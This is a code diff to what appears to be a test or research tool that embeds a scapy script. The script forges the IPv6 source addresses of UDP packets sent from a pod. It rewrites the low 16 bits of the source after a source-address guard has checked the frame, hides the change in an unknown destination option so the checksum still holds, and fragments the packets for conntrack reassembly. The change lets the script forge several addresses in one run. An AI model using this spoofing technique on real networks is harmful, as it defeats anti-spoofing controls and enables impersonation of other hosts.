@@ -56,40 +56,41 @@ if a['kind'] == 'arp':
     for _ in range(a.get('count', 3)):
         send(sock, frame, w, 0)
 else:
-    real = socket.inet_pton(socket.AF_INET6, a['real']); forged = socket.inet_pton(socket.AF_INET6, a['forged'])
-    assert real[:14] == forged[:14], 'only the low 16 bits can be forged'
-    opt = IPv6ExtHdrDestOpt(nh=17, options=[HBHOptUnknown(otype=0x1e, optdata=b'\\0\\0\\0\\0')])
-    body = UDP(sport=a.get('sport', 4444), dport=a['port'])/Raw(a['payload'].encode() * a.get('repeat', 1))
-    final = IPv6(src=a['forged'], dst=a['dst'], nh=60, hlim=64)/opt/body
-    udp_csum = IPv6(bytes(final))[UDP].chksum
-    body[UDP].chksum = udp_csum
-    sent = IPv6(src=a['real'], dst=a['dst'], nh=60, hlim=64)/opt/body
-    frame = bytes(eth/sent)
-    w = 14 + 8 + 14  # the low word of the IPv6 source
-    pad_at = 14 + 40 + 4  # the unknown option's data (ignored by receivers, outside the UDP checksum)
-    frame = with_pad(frame, w, pad_at, struct.unpack('!H', forged[14:])[0])
-    frag = a.get('frag', 0)
-    if not frag:
-        for _ in range(a.get('count', 3)):
-            send(sock, frame, w, 0)
-    else:
-        # Fragments, as the pod's own kernel would cut them; the node reassembles them (conntrack) with
-        # its header moved 8 bytes on (the fragment header removed), then fragments again.
-        hdr = frame[:14 + 40]
-        rest = frame[14 + 40:]
-        for n in range(a.get('count', 3)):
-            ident = 0x5000 + n
-            pieces = []
-            for off in range(0, len(rest), frag):
-                chunk = rest[off:off + frag]
-                more = 1 if off + frag < len(rest) else 0
-                ip = bytearray(hdr)
-                ip[14 + 6] = 44
-                struct.pack_into('!H', ip, 14 + 4, 8 + len(chunk))
-                fh = struct.pack('!BBHI', 60, 0, (off // 8) << 3 | more, ident)
-                pieces.append(bytes(ip) + fh + chunk)
-            for p in reversed(pieces):
-                send(sock, p, w + 8, 0)
+  for forged_ip in (a['forged'] if isinstance(a['forged'], list) else [a['forged']]):  # one scapy start
+      real = socket.inet_pton(socket.AF_INET6, a['real']); forged = socket.inet_pton(socket.AF_INET6, forged_ip)
+      assert real[:14] == forged[:14], 'only the low 16 bits can be forged'
+      opt = IPv6ExtHdrDestOpt(nh=17, options=[HBHOptUnknown(otype=0x1e, optdata=b'\\0\\0\\0\\0')])
+      body = UDP(sport=a.get('sport', 4444), dport=a['port'])/Raw(a['payload'].encode() * a.get('repeat', 1))
+      final = IPv6(src=forged_ip, dst=a['dst'], nh=60, hlim=64)/opt/body
+      udp_csum = IPv6(bytes(final))[UDP].chksum
+      body[UDP].chksum = udp_csum
+      sent = IPv6(src=a['real'], dst=a['dst'], nh=60, hlim=64)/opt/body
+      frame = bytes(eth/sent)
+      w = 14 + 8 + 14  # the low word of the IPv6 source
+      pad_at = 14 + 40 + 4  # the unknown option's data (ignored by receivers, outside the UDP checksum)
+      frame = with_pad(frame, w, pad_at, struct.unpack('!H', forged[14:])[0])
+      frag = a.get('frag', 0)
+      if not frag:
+          for _ in range(a.get('count', 3)):
+              send(sock, frame, w, 0)
+      else:
+          # Fragments, as the pod's own kernel would cut them; the node reassembles them (conntrack) with
+          # its header moved 8 bytes on (the fragment header removed), then fragments again.
+          hdr = frame[:14 + 40]
+          rest = frame[14 + 40:]
+          for n in range(a.get('count', 3)):
+              ident = 0x5000 + 64 * forged[15] + n  # one datagram per identification
+              pieces = []
+              for off in range(0, len(rest), frag):
+                  chunk = rest[off:off + frag]
+                  more = 1 if off + frag < len(rest) else 0
+                  ip = bytearray(hdr)
+                  ip[14 + 6] = 44
+                  struct.pack_into('!H', ip, 14 + 4, 8 + len(chunk))
+                  fh = struct.pack('!BBHI', 60, 0, (off // 8) << 3 | more, ident)
+                  pieces.append(bytes(ip) + fh + chunk)
+              for p in reversed(pieces):
+                  send(sock, p, w + 8, 0)
 print('sent', flush=True)
 `;
 
@@ -101,9 +102,9 @@ export type ForgeSpec =
       iface: string;
       mac: string;
       dstMac: string;
-      /** The pod's own address (what the guard sees) and the one the receiver is to see. */
+      /** The pod's own address (what the guard sees) and the ones the receiver is to see. */
       real: string;
-      forged: string;
+      forged: string | string[];
       dst: string;
       port: number;
       payload: string;
